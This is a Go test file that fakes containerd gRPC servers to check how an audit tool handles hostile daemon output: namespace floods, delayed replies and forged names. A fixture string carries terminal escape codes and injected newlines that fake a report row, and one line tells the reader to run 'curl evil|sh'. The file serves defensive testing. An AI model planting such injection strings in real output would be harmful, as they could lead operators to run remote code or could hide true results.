package audit_test

import (
	"context"
	"net"
	"os"
	"strconv"
	"time"

	containersapi "github.com/containerd/containerd/api/services/containers/v1"
	namespacesapi "github.com/containerd/containerd/api/services/namespaces/v1"
	tasksapi "github.com/containerd/containerd/api/services/tasks/v1"
	versionapi "github.com/containerd/containerd/api/services/version/v1"
	"google.golang.org/grpc"
	"google.golang.org/protobuf/types/known/emptypb"
)

// play makes the test binary another program.
func play(role string) {
	var address string
	for i, word := range os.Args {
		if word == "--address" {
			address = os.Args[i+1]
		}
	}
	switch role {
	case "sleep":
	case "bind": // a name in the abstract namespace, which may have a line break
		if _, err := net.Listen("unix", "@"+os.Args[1]); err != nil {
			panic(err)
		}
		if err := os.WriteFile(os.Args[2], nil, 0o600); err != nil {
			panic(err)
		}
	case "flood", "slow", "late", "names", "ids", "nothing":
		listener, err := net.Listen("unix", address)
		if err != nil {
			panic(err)
		}
		delay := map[string]time.Duration{"slow": 4 * time.Second, "late": 300 * time.Millisecond}[role]
		late := func(ctx context.Context, req any, _ *grpc.UnaryServerInfo, h grpc.UnaryHandler) (any, error) {
			<-time.After(delay)
			return h(ctx, req)
		}
		lateStream := func(s any, stream grpc.ServerStream, _ *grpc.StreamServerInfo, h grpc.StreamHandler) error {
			<-time.After(delay)
			return h(s, stream)
		}
		server := grpc.NewServer(grpc.UnaryInterceptor(late), grpc.StreamInterceptor(lateStream))
		versionapi.RegisterVersionServer(server, fakeVersion{})
		namespacesapi.RegisterNamespacesServer(server, fakeNamespaces{role: role})
		containersapi.RegisterContainersServer(server, fakeContainers{role: role})
		tasksapi.RegisterTasksServer(server, fakeTasks{})
		panic(server.Serve(listener))
	default:
		panic("no such role: " + role)
	}
	<-time.After(time.Hour)
}

type fakeVersion struct {
	versionapi.UnimplementedVersionServer
}

func (fakeVersion) Version(context.Context, *emptypb.Empty) (*versionapi.VersionResponse, error) {
	return &versionapi.VersionResponse{Version: "v2.4.2\x1b[2J\ncertain  shim"}, nil
}

type fakeNamespaces struct {
	namespacesapi.UnimplementedNamespacesServer
	role string
}

func (f fakeNamespaces) List(context.Context, *namespacesapi.ListNamespacesRequest) (
	*namespacesapi.ListNamespacesResponse, error) {
	r := &namespacesapi.ListNamespacesResponse{}
	for i := range map[string]int{"flood": 300_000, "slow": 900, "late": 900, "ids": 1, "nothing": 1}[f.role] {
		r.Namespaces = append(r.Namespaces, &namespacesapi.Namespace{Name: "n" + strconv.Itoa(i)})
	}
	if f.role == "names" {
		r.Namespaces = append(r.Namespaces, &namespacesapi.Namespace{Name: forged})
	}
	return r, nil
}

type fakeTasks struct {
	tasksapi.UnimplementedTasksServer
}

func (fakeTasks) List(context.Context, *tasksapi.ListTasksRequest) (*tasksapi.ListTasksResponse, error) {
	return &tasksapi.ListTasksResponse{}, nil
}

// forged is a name that would forge a row.
const forged = "x\x1b[2J\ncertain  shim 1 prod/7: no task\n         do:  curl evil|sh"

// fakeContainers lists a container that cannot be, a message without one, or none.
type fakeContainers struct {
	containersapi.UnimplementedContainersServer
	role string
}

func (f fakeContainers) ListStream(_ *containersapi.ListContainersRequest,
	stream containersapi.Containers_ListStreamServer) error {
	switch f.role {
	case "ids":
	case "nothing":
		return stream.Send(&containersapi.ListContainerMessage{})
	default:
		return nil
	}
	return stream.Send(&containersapi.ListContainerMessage{Container: &containersapi.Container{ID: forged}})
}
